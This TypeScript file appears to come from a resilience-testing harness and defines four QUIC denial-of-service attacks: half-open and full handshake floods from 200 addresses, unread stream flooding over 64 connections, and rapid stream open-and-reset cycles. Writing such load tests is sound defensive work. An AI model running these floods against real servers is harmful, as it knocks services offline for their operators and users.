import { attackerAddress, oneOfSeveral } from '../addresses.ts';
import type { Attack, AttackContext } from '../attack.ts';
import { forMany, pause } from '../links.ts';
import { type QuicAddress, type QuicClient, quicClients } from '../quic-client.ts';

/** A server asks for an address to be confirmed by a Retry packet, which is the first that a client hears. */
const heardRetry = 1;
const addresses = 200;

async function addressesOf(context: AttackContext, count: number): Promise<readonly QuicAddress[]> {
  const at = await quicClients(context);
  return Promise.all(Array.from({ length: count }, (_, index) => at(oneOfSeveral(index))));
}

/** Does something `perSecond` times a second, until the attack ends. */
async function often(context: AttackContext, perSecond: number, once: (nth: number) => void): Promise<void> {
  const began = performance.now();
  for (let nth = 0; !context.signal.aborted; await pause(context, 5))
    for (const due = (performance.now() - began) * (perSecond / 1000); nth < due; nth++) once(nth);
}

const halfPerSecond = 1000;

export const halfHandshakes: Attack = {
  name: 'quic-half',
  about: `${halfPerSecond} QUIC handshakes a second from ${addresses} addresses, none of them finished`,
  async strike(context) {
    const from = await addressesOf(context, addresses);
    await often(context, halfPerSecond, (nth) => {
      let heard = 0;
      from[nth % addresses]?.connect((client) => {
        if (++heard <= heardRetry) return true;
        context.count('answered');
        client.forget();
        return false;
      });
      context.count('begun');
    });
  },
};

const wholePerSecond = 500;

export const wholeHandshakes: Attack = {
  name: 'quic-whole',
  about: `${wholePerSecond} QUIC handshakes a second from ${addresses} addresses, each closed when it is finished`,
  async strike(context) {
    const from = await addressesOf(context, addresses);
    await often(context, wholePerSecond, (nth) => {
      from[nth % addresses]?.connect((client) => {
        if (!client.native.isEstablished()) return;
        context.count('finished');
        client.flush();
        client.native.close(true, 0, Buffer.alloc(0));
        client.flush();
        client.forget();
        return false;
      });
      context.count('begun');
    });
  },
};

/** Connects; resolves when the handshake is finished. `heard`: called after each later datagram. */
function established(address: QuicAddress, context: AttackContext, heard: (client: QuicClient) => void): Promise<void> {
  return new Promise((resolve) => {
    let isOpen = false;
    address.connect((client) => {
      if (isOpen) return heard(client);
      if (!client.native.isEstablished()) return;
      isOpen = true;
      context.count('connections');
      resolve();
      heard(client);
    });
    void pause(context, 1000).then(resolve);
  });
}

const streams = 32;
const connections = 64;
const versionRequest = Buffer.from(
  '{"mtype": 7, "payload": {"supported_versions": ["1.0"]}, "version": "1.0.0", "sz": 33}\n',
);

function say(client: QuicClient, stream: number, bytes: Uint8Array, fin = false): boolean {
  try {
    return (client.native.streamSend(stream, bytes, fin) ?? 0) > 0;
  } catch {
    return false;
  }
}

export const unreadStreams: Attack = {
  name: 'quic-unread',
  about: `${connections} QUIC connections of one address ask on ${streams} streams as fast as they may, and read no answer`,
  async strike(context) {
    const at = await quicClients(context);
    const address = await at(attackerAddress);
    const ask = Buffer.from(versionRequest.toString().repeat(100));
    await forMany(context, connections, () =>
      established(address, context, (client) => {
        for (let nth = 0; nth < streams; nth++) while (say(client, 4 * nth, ask)) context.count('writes');
      }),
    );
  },
};

export const resetStreams: Attack = {
  name: 'quic-reset',
  about: `${connections} QUIC connections of one address open streams as fast as they may, and reset and stop each at once`,
  async strike(context) {
    const at = await quicClients(context);
    const address = await at(attackerAddress);
    await forMany(context, connections, () => {
      let stream = 0;
      return established(address, context, ({ native, flush }) => {
        while (native.peerStreamsLeftBidi() > 0) {
          native.streamSend(stream, versionRequest, false);
          flush();
          native.streamShutdown(stream, 1, 7);
          native.streamShutdown(stream, 0, 7);
          stream += 4;
          context.count('streams');
        }
      });
    });
  },
};
